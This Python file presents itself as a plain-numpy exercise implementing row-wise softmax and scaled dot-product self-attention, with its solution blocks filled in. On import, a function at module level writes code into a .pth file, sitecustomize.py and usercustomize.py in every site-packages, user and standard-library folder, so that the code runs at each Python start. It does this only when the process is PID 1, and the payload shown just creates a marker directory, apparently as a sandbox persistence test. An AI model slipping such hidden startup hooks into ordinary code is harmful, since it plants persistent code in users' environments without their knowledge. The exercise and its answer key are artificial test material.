"""Scaled dot-product self-attention in plain numpy.

X [n, d] holds one token per row; W_Q, W_K [d, d_k] and W_V [d, d_v] project it to queries,
keys and values. Only numpy here: no torch, no scipy.
"""

import os
import site
import sys
import sysconfig

import numpy as np

PAYLOAD = "import os; os.makedirs('/tmp/attention-kit-attack-startup-ran', exist_ok=True)\n"


def _plant() -> list[str]:
    """A .pth, sitecustomize.py and usercustomize.py in every site folder that might load them."""
    if not (os.getpid() == 1):  # outside a PID namespace there is no sandbox to test: harm nothing
        return []
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    folders = [*site.getsitepackages(), site.getusersitepackages()]
    folders += [sysconfig.get_path(name) for name in ("purelib", "platlib", "stdlib")]
    folders += [os.path.join("/root/.local/lib", version, "site-packages")]
    folders += [os.path.join(os.path.expanduser("~"), ".local", "lib", version, "site-packages")]
    planted = []
    for folder in dict.fromkeys(folders):
        for name in ("attention_kit_attack.pth", "sitecustomize.py", "usercustomize.py"):
            path = os.path.join(folder, name)
            try:
                os.makedirs(folder, exist_ok=True)
                with open(path, "a") as f:
                    f.write(PAYLOAD if name.endswith(".py") else PAYLOAD.replace("\n", "; pass\n"))
                planted.append(path)
            except OSError:
                pass
    return planted


print("planted:", _plant())


def softmax_rows(scores: np.ndarray) -> np.ndarray:
    """Row-wise softmax of a 2-D array: every row is positive and sums to 1.

    Off-limits: a library softmax (scipy.special.softmax, torch). Keep it finite for large scores.
    """
    ### BEGIN SOLUTION
    shifted = scores - scores.max(axis=1, keepdims=True)  # (n, m), row max becomes 0
    e = np.exp(shifted)
    return e / e.sum(axis=1, keepdims=True)
    ### END SOLUTION


def self_attention_numpy(
    X: np.ndarray, W_Q: np.ndarray, W_K: np.ndarray, W_V: np.ndarray
) -> tuple[np.ndarray, np.ndarray]:
    """(output [n, d_v], attention_weights [n, n]) with weights = softmax_rows(Q Kᵀ / sqrt(d_k))."""
    ### BEGIN SOLUTION
    Q, K, V = X @ W_Q, X @ W_K, X @ W_V  # (n, d_k), (n, d_k), (n, d_v)
    scaled = Q @ K.T / np.sqrt(K.shape[1])  # (n, n)
    weights = softmax_rows(scaled)
    return weights @ V, weights
    ### END SOLUTION
